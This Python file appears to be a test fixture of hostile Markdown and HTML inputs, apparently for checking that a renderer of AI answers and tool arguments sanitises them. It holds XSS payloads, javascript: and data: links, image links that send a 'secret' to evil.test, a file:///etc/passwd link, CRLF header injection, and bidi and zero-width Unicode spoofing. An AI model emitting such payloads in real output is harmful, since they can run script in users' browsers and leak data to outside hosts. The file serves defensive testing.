"""Texts that try something."""
# ruff: noqa: E501

from __future__ import annotations

MARKDOWN = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "![leak](https://evil.test/leak?q=secret)",
    "![leak][r]\n\n[r]: https://evil.test/leak2",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt&#58;window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:x) [file](file:///etc/passwd) [rel](/api/sessions) [proto](//evil.test/x) [back](http:\\\\evil.test)",
    '<javascript:window.pwned=1> <https://evil.test/"onmouseover=window.pwned=1>',
    '[a](https://evil.test/"onclick="window.pwned=1 \'title"><script>window.pwned=1</script>\')',
    '```html"><script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```',
    '<svg><script>window.pwned=1</script></svg><math><mi xlink:href="javascript:window.pwned=1">x</mi></math>',
    "| a | b |\n|--|--|\n| <img src=x onerror=window.pwned=1> | ![x](https://evil.test/t.png) |",
    "<style>body{background:url(https://evil.test/css)}</style><link rel=stylesheet href=https://evil.test/l.css><base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action=https://evil.test><button autofocus onfocus=window.pwned=1>Approve</button></form><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "Pay \u202e000,1$\u202c to Ann \u2066abc \u200b zero\u200dwidth \U000e0041tags",
    "<a name=location href=x id=approve>x</a><div id=stop></div><input name=attributes>",
    "> " * 2000 + "deep " + "*" * 3000 + "[" * 3000,
    "[x](https://evil.test/"
    + "%0d%0a" * 5
    + "Set-Cookie:a=b) &lt;script&gt;window.pwned=1&lt;/script&gt; \x00",
]
ANSWER = "\n\n".join(MARKDOWN[:18])
ORDER_ARGS = {
    "sku": "<img src=x onerror=window.pwned=1>",
    "n": 40,
    "note": "to \u202enna ot 1$ yap\u202c </pre><script>window.pwned=1</script>",
}
STOCK_ARGS = {"sku": "\u202e<b>1-AET", "place": "Paris</summary><script>window.pwned=1</script>"}
SUGGESTIONS = """<style>.container{background:#fafafa;font-family:sans-serif;display:flex}.chip{border:1px solid #d2d2d2;border-radius:16px;padding:5px 16px;color:#5e5e5e;text-decoration:none}
@media (prefers-color-scheme: dark){.container{background:#1f1f1f}}</style>
<div class="container" style="padding:8px"><svg width="18" height="18" viewBox="9 9 35 35"><circle cx="26" cy="26" r="9" fill="#4285F4"></circle></svg>
<a class="chip" href="https://www.google.com/search?q=tea">green tea shelf life</a></div><script>parent.pwned=1;document.body.innerHTML="scripted"</script><img src="https://evil.test/pixel">"""
